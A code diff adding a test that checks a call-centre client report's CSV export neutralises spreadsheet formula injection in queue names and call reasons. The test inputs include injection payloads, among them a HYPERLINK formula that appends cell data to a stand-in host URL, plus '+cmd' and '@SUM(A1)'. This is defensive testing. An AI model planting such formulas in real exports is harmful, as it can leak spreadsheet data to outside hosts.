@@ -52,6 +52,28 @@ describe('the client report the day a centre went from quarter-hours to half-hou
   });
 });
 
+describe('the client report CSV of a feed that names queues and reasons like formulas', () => {
+  it('writes them as text a spreadsheet shows and does not run', async () => {
+    const store = new SqliteHistoryStore(':memory:');
+    const clock = new IntervalClock('Asia/Taipei', 30);
+    const t = Date.parse('2026-11-18T09:00:00+08:00');
+    const ids = ['=HYPERLINK("http://x.example/?"&A1,"open")', '+cmd', '-2+3', '@SUM(A1)'];
+    const reasons = { '=1+1': 2, 'line\rbreak,comma': 1 };
+    await store.upsertQueueIntervals(ids.map((id, i) => ({ ...row(id, t, i + 1), dispositions: i === 0 ? reasons : {} })));
+    const queues = ids.map((queueId) => ({ queueId, name: queueId, targets }));
+    const r = await clientReport(store, { tenant: 'acme', tenantName: 'Acme', queues, agentIds: [] }, 'day', '2026-11-18', clock, () => false);
+    const csv = clientReportCsv(r);
+    const lines = csv.split('\n');
+    // Queue rows in the order given: the cell after the dates is the id as text, then its 1..4 calls.
+    expect(lines.slice(2, 5).map((l) => l.split(',').slice(3, 5).join(','))).toEqual([`"'+cmd",2`, `"'-2+3",3`, `"'@SUM(A1)",4`]);
+    expect(lines[1]).toBe(`current,2026-11-18,2026-11-18,"'=HYPERLINK(""http://x.example/?""&A1,""open"")",1,1,0,1,100.0,80.0,0.0,20,0.0,5.0,100.0,1,1,realtime`);
+    // No line of the file starts a cell with a formula character outside quotes.
+    for (const line of lines) for (const cell of line.split(',')) expect(cell).not.toMatch(/^[=+@]/);
+    expect(csv).toContain(`call_reason,calls\n"'=1+1",2\n"line\rbreak,comma",1\n`);
+    await store.close();
+  });
+});
+
 describe('the report over HTTP', () => {
   const ACME = 'acme-client-token-0123456789';
   const ADMIN = 'admin-token-0123456789abcd';
